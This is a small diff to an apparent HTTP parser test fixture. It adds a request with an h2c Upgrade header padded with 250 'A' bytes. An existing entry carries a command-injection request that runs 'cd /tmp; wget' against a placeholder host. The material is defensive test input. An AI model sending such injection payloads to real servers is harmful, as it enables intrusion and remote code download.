@@ -151,6 +151,7 @@ REQUESTS = [
     b"GET /shell?cd+/tmp;wget+ http://x HTTP/1.1\r\n\r\n",
     b"DELETE /x HTTP/1.1\r\nContent-Length: 2\r\n\r\nab",
     b"X" * 300 + b"\r\n",
+    b"GET /up HTTP/1.1\r\nUpgrade: h2c\r\n\r\n" + b"A" * 250,
 ]
 RESPONSES = [
     b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello",
